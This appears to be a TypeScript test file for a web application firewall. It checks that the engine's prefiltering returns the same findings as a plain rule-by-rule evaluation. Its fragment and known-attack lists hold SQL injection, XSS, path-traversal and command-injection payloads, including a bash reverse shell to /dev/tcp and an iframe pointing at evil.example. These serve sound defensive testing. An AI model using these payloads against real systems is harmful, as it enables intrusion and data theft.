import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { RequestContext } from '../../src/pipeline/types.ts';
import { decodeRepeatedly, htmlEntityDecode, normalizeForRules, stripSqlComments } from '../../src/waf/decode.ts';
import { createWafEngine, type WafEngineOptions, type WafMatch } from '../../src/waf/engine.ts';
import { visitParts } from '../../src/waf/parts.ts';
import { patternRulesPrefilter } from '../../src/waf/prefilter.ts';
import { requestLevelFindings, valueFinding } from '../../src/waf/protocol.ts';
import { patternRules, protocolRules } from '../../src/waf/rules.ts';
import { parseBody } from '../../src/web/request-body.ts';
import { benignCorpus } from './fixtures/benign-corpus.ts';

// The engine skips a rule on a part when the part lacks the rule's needles, and normalizes
// in a faster way than the definition. Neither may change a decision: on the benign corpus,
// known attacks and generated strings mixing attack fragments with encodings, whitespace,
// comments and case, the engine returns exactly the findings of the plain evaluation below
// (every rule's pattern on every part, normalized by the definition), in the same order.

/** The definition of the normalized form, without the engine's shortcuts. */
const plainNormalize = (decoded: string): string =>
  stripSqlComments(htmlEntityDecode(decoded).toLowerCase()).replace(/[\s\u0000-\u0008\u000b\u000c\u000e-\u001f\u00a0]+/g, ' ');

const secretPart = /pass(?:word|wd)?|secret|token|api[-_]?key|authorization|session|csrf|credential/i;
const fragmentOf = (part: string, text: string): string => (secretPart.test(part) ? `[redacted ${text.length} chars]` : text.slice(0, 120));

/** Every enabled rule on every part, rule by rule: the first finding in block mode, up to 20 in detect mode. */
function plainInspect(options: WafEngineOptions, ctx: RequestContext, all: boolean): WafMatch[] {
  const rules = patternRules.filter((r) => r.paranoia <= options.paranoia && !options.disabledRules.has(r.id));
  const proto = new Set(Object.entries(protocolRules).filter(([id, r]) => r.paranoia <= options.paranoia && !options.disabledRules.has(id)).map(([id]) => id));
  const excepted = (rule: string, part: string): boolean => {
    const set = options.exceptions.get(rule);
    return !!set && (set.has('*') || set.has(part) || set.has(part.replace(/\[\d+\]/g, '[*]')));
  };
  const found: WafMatch[] = [];
  const add = (m: WafMatch): boolean => {
    if (excepted(m.rule, m.part)) return false;
    found.push(m);
    return !all || found.length >= 20;
  };
  const req = requestLevelFindings(ctx, proto);
  if (req && add({ rule: req.rule, attack: 'protocol', paranoia: protocolRules[req.rule].paranoia, part: req.part, fragment: fragmentOf(req.part, req.fragment) })) return found;
  const parts: [string, string][] = [];
  let stopped = false;
  visitParts(ctx, options.skipHeaders, (name, value, source) => {
    if (value.length === 0) return false;
    const decoded = decodeRepeatedly(value);
    const p = valueFinding(name, decoded, source, proto);
    if (p && add({ rule: p.rule, attack: 'protocol', paranoia: protocolRules[p.rule].paranoia, part: p.part, fragment: fragmentOf(p.part, p.fragment) })) { stopped = true; return true; }
    parts.push([name, plainNormalize(decoded)]);
    return false;
  });
  if (stopped) return found;
  for (const rule of rules) {
    for (const [name, text] of parts) {
      const m = rule.pattern.exec(text);
      if (m && add({ rule: rule.id, attack: rule.attack, paranoia: rule.paranoia, part: name, fragment: fragmentOf(name, m[0]) })) return found;
    }
  }
  return found;
}

interface RequestShape {
  readonly path: string;
  readonly query?: string;
  readonly headers?: Record<string, string>;
  readonly contentType?: string;
  readonly body?: string;
}

async function contextOf(r: RequestShape): Promise<RequestContext> {
  const headers = { ...(r.contentType ? { 'content-type': r.contentType } : {}), ...r.headers };
  const body = r.body === undefined ? null : await parseBody(Buffer.from(r.body), r.contentType);
  return { path: r.path, query: r.query ?? '', headers, body } as unknown as RequestContext;
}

const noExceptions = { disabledRules: new Set<string>(), exceptions: new Map<string, Set<string>>(), skipHeaders: new Set<string>() };
const optionSets: WafEngineOptions[] = [
  { paranoia: 1, ...noExceptions },
  { paranoia: 2, ...noExceptions },
  { paranoia: 4, ...noExceptions },
  // Disabled rules and exceptions change which rules the prefilter is built for.
  {
    paranoia: 2, skipHeaders: new Set(['x-skip']), disabledRules: new Set(['sqli-001', 'xss-002', 'proto-003']),
    exceptions: new Map([['sqli-004', new Set(['body.$.code'])], ['xss-001', new Set(['body.$.files[*].content'])], ['lfi-001', new Set(['*'])]]),
  },
];
const engines = optionSets.map((o) => ({ options: o, engine: createWafEngine(o) }));

async function assertSameFindings(r: RequestShape): Promise<void> {
  const ctx = await contextOf(r);
  for (const { options, engine } of engines) {
    for (const all of [false, true]) {
      assert.deepEqual(engine.inspect(ctx, all), plainInspect(options, ctx, all), `paranoia ${options.paranoia}, ${all ? 'detect' : 'block'}: ${JSON.stringify(r)}`);
    }
  }
}

// Pieces of attacks every rule looks for, their obfuscations, and what sits near them in real text.
const fragments = [
  "'", '"', '`', ' or ', ' OR ', 'oR', ' and ', '&&', '||', ' xor ', '1=1', "'a'='a", ' = ', '<=>', ' like ', ' is ', 'true', ' not ',
  'union', 'UNION', ' all ', ' select ', 'SeLeCt', ' from users', ' null', '@@version', 'concat(', 'char(', ';', ' ; ', '--', '#', ')', '(',
  'drop table ', 'delete from ', 'insert into ', 'update t set ', 'truncate ', 'truncate x', 'alter user ', 'alter table ', 'create table ', 'create function ', 'shutdown', 'exec ', 'execute ', 'exec(', 'declare @', 'waitfor delay ',
  'xp_cmdshell', 'sp_executesql', 'load_file(', "waitfor delay '", 'pg_sleep(', 'benchmark(10000', 'dbms_pipe.', 'utl_http.', 'sleep(', 'sleep (',
  'into outfile', 'dumpfile', 'information_schema', 'sqlite_master',
  '<script', '</script>', '< script', '<img src=x', '<a ', '<svg/', ' onerror=', ' onload =', 'javascript:', 'java\tscript:', 'javas\ncript:',
  'j a v a s c r i p t :', 'vbscript:', 'livescript:', 'data:text/html', 'data : text/html', '<iframe', '<object', '<embed', '<meta http-equiv',
  'alert(', 'prompt(', 'eval (', 'document.cookie', 'fromcharcode', '<style', '<body',
  '../', '..\\', '..', '/..', 'etc/passwd', '/etc/passwd', '/etc/shadow', '/proc/self/environ', 'c:\\windows\\win.ini', 'c:/windows/system32',
  'win.ini', '.env', '.git/', 'web.config', '.htaccess', 'php://', 'phar://', 'zip://', 'compress.zlib://', 'expect://', 'file://',
  '|', '| ', '$(', '`id`', ' id', 'whoami', 'uname', 'cat /', 'wget ', 'curl ', 'nc ', 'nc -e ', 'ncat ', 'bash -i', 'sh -', 'zsh',
  '/dev/tcp/', '/dev/udp/', 'mkfifo /', 'powershell -enc', 'powershell.exe -nop', 'cmd /c ', 'cmd.exe /k ', 'chmod +x /tmp/', 'chmod 777 /tmp/',
  ' -o /tmp/', 'python -c', 'perl -e', 'ls', 'rm', 'echo', 'sudo',
  ' ', '  ', '\t', '\n', '\r\n', '\u000b', '\u00a0', '\u2003', '\u0001', '/**/', '/*', '*/', '/*!50000', '&#x3c;', '&#60', '&lt;', '&colon;',
  '&#106;', '&tab;', '&newline;', '&lpar;', '&amp;', '%27', '%3c', '%3C', '%2e%2e%2f', '%252e', '%25', '%u003c', '%', '+',
  'Σ', 'İ', '\u212a', 'é', '李', '😀', '\u007f', 'a', 'x', '1', '42', 'users', 'id', 'name',
];
const attackText = fc.array(
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...fragments) },
    { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
    { weight: 1, arbitrary: fc.constantFrom(...fragments).map((f) => f.toUpperCase()) },
  ),
  { maxLength: 14 },
).map((xs) => xs.join(''));

const partName = fc.constantFrom('comment', 'q', 'code', 'password', 'title', 'a b', 'x-y');

describe('the engine decides exactly as every rule on every part would', () => {
  test('the benign corpus, at every paranoia level, in block and detect mode', async () => {
    for (const r of benignCorpus()) {
      const [path, query] = r.path.split('?') as [string, string | undefined];
      await assertSameFindings({ path, query: query === undefined ? '' : `?${query}`, headers: r.headers, contentType: r.contentType, body: r.body });
    }
  });

  test('known attacks in each part of a request', async () => {
    const attacks = [
      "' OR 1=1 --", '5 or 1=1', '0 UNION ALL SELECT NULL, version()', "x'; DROP TABLE users; --", "admin'--", "1' AND SLEEP(5)",
      "1; EXEC xp_cmdshell 'dir'", '1 AND pg_sleep(5)', '1 + @@version', "1 UNION SELECT 'x' INTO OUTFILE '/var/www/x.php'",
      'hi <script>fetch("//x")</script>', '<svg/onload=alert(1)>', 'javascript:alert(1)', 'javas\tcript:alert(1)', 'java\nscript:alert(1)',
      '<iframe src="https://evil.example">', '../../../var/log/app.log', '..\\..\\windows\\win.ini', '/etc/passwd',
      'php://filter/convert.base64-encode/resource=index', '127.0.0.1; id', 'a$(uname -a)', 'http://x | sh',
      'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '&#106;avascript&#58;alert(1)', '1/**/UnIoN/**/SeLeCt/**/null,null--',
      '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', '%253Cscript%253Ealert(1)', '..%2F..%2F..%2Fetc%2Fhosts', 'report.pdf\u0000.php',
      "I called alert(1) in my snippet", 'SELECT name FROM users', 'ls -la | grep x', 'see file:///etc/hosts',
    ];
    for (const a of attacks) {
      await assertSameFindings({ path: '/api/comments', contentType: 'application/json', body: JSON.stringify({ comment: a, code: a, files: [{ content: a }] }) });
      await assertSameFindings({ path: '/api/comments', contentType: 'application/x-www-form-urlencoded', body: new URLSearchParams({ title: 'x', comment: a }).toString() });
      await assertSameFindings({ path: `/api/files/${encodeURIComponent(a)}`, query: `?q=${encodeURIComponent(a)}`, headers: { 'user-agent': a.replace(/[\r\n\u0000]/g, ' '), cookie: `lang=${encodeURIComponent(a)}` } });
      await assertSameFindings({ path: '/api/comments', contentType: 'text/plain', body: a });
    }
  });

  test('generated strings mixing attack fragments, encodings, whitespace, comments and case, in JSON, form, query and header parts', async () => {
    await fc.assert(fc.asyncProperty(
      fc.array(fc.tuple(partName, attackText), { minLength: 1, maxLength: 6 }), attackText, attackText,
      async (fields, header, query) => {
        const obj = Object.fromEntries(fields);
        await assertSameFindings({ path: '/api/comments', contentType: 'application/json', body: JSON.stringify({ ...obj, files: fields.map(([, v]) => ({ content: v })) }) });
        await assertSameFindings({ path: '/api/comments', contentType: 'application/x-www-form-urlencoded', body: fields.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&') });
        await assertSameFindings({ path: '/api/comments', query: `?q=${encodeURIComponent(query)}`, headers: { 'x-note': header.replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, ' ') } });
      },
    ), { numRuns: 300 });
  });
});

describe('needles are a superset condition of each pattern', () => {
  // The engine's equivalence above rests on this: whenever a rule's pattern matches a
  // normalized value, the prefilter admits the rule for it.
  const prefilter = patternRulesPrefilter();
  const bits = new Int32Array(prefilter.words);
  const check = (raw: string) => {
    const text = normalizeForRules(decodeRepeatedly(raw));
    prefilter.scan(text, bits, 0);
    patternRules.forEach((rule, r) => {
      if (rule.pattern.test(text) && !prefilter.admits(r, bits, 0)) assert.fail(`${rule.id} matches ${JSON.stringify(text)} but its needles ${JSON.stringify(rule.needles)} skip it`);
    });
  };

  test('on generated strings of attack fragments', () => {
    fc.assert(fc.property(attackText, (raw) => { check(raw); }), { numRuns: 5000 });
  });

  test('on a match of every branch of sqli-004 (its keyword group lists one needle per branch)', () => {
    const branches = ['drop table t', 'drop user u', 'delete from t', 'insert into t', 'update t.c set', 'truncate t', 'truncate table t', 'alter table t',
      'alter user u', 'create table t', 'create user u', 'create function f', 'shutdown', 'exec sp', 'execute (x', 'exec @x', 'declare @v', 'select a from b', 'waitfor delay'];
    for (const b of branches) {
      for (const before of ["x';", '1 ;', ') ; ', ';', ' ;']) {
        const raw = `${before}${b}`.toUpperCase();
        assert.ok(patternRules.find((r) => r.id === 'sqli-004')!.pattern.test(normalizeForRules(raw)), raw);
        check(raw);
      }
    }
  });

  test('on a match of every operator of sqli-001 (its second group lists them)', () => {
    for (const q of ["'", '"', '`']) {
      for (const op of ['or', 'and', 'xor', '||', '&&']) {
        for (const tail of [' 1=1', ' true', ' not', ' sleep(1)', "'a'='a", ' x like']) {
          for (const raw of [`x${q} ${op}${tail}`, `x${q}) ${op} (${tail}`, `x${q}${op}${tail}`.toUpperCase()]) {
            assert.ok(patternRules.find((r) => r.id === 'sqli-001')!.pattern.test(normalizeForRules(raw)), raw);
            check(raw);
          }
        }
      }
    }
  });

  test('on every fragment, alone and between words', () => {
    for (const f of fragments) for (const g of fragments) check(`x${f}${g}y`);
  });
});
